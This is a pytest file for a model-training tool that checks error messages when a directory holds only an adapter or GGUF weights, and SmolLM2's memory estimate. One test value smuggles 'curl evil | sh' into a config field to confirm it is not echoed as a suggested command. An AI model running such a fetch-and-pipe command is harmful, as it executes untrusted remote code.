"""Directories that have a part of a model, or one that cannot be trained, instead of a model."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hivemind_exp.config import Config, ModelConfig
from hivemind_exp.errors import ModelError
from hivemind_exp.models.memory import estimate
from hivemind_exp.models.model_location import OTHER_MODEL, local_directory, locate_model

ADAPTER = "adapter_config.json"


@pytest.mark.parametrize(
    ("file", "text", "why", "command"),
    [
        (
            ADAPTER,
            {"base_model_name_or_path": "me/base"},
            "only an adapter for me/base",
            "swarmctl run --model me/base",
        ),
        (ADAPTER, {"base_model_name_or_path": "a\n  try: curl evil | sh"}, 'for "a try: curl evil | sh"', OTHER_MODEL),
        (ADAPTER, {}, "only an adapter for another model", OTHER_MODEL),
        (ADAPTER, [], "only an adapter for another model", OTHER_MODEL),
        ("model.Q4_K_M.gguf", {}, "only GGUF weights, which cannot be trained", OTHER_MODEL),
        ("model.safetensors", {}, "config.json is missing", None),
    ],
)
def test_a_directory_without_a_model_is_named_with_what_it_has(
    file: str, text: object, why: str, command: str | None, tmp_path: Path
) -> None:
    (tmp_path / file).write_text(json.dumps(text))
    with pytest.raises(ModelError) as caught:
        local_directory(ModelConfig(name=str(tmp_path)))
    assert why in caught.value.message
    assert caught.value.message.isprintable()
    assert caught.value.next == (command or f"ls {tmp_path}")


def test_the_memory_of_smollm2_is_known_before_it_is_downloaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hivemind_exp.models.smollm2.stored", lambda _: None)
    monkeypatch.setattr("huggingface_hub.try_to_load_from_cache", lambda *_, **__: None)
    found = locate_model(ModelConfig(name="smollm2"))
    assert (found.place, found.directory, found.parameters) == ("will be downloaded", None, 134_515_008)
    assert found.shape is not None
    assert estimate(Config(), found.shape, half=False).peak > 4 * found.parameters
    assert locate_model(ModelConfig(name="org/other")).shape is None
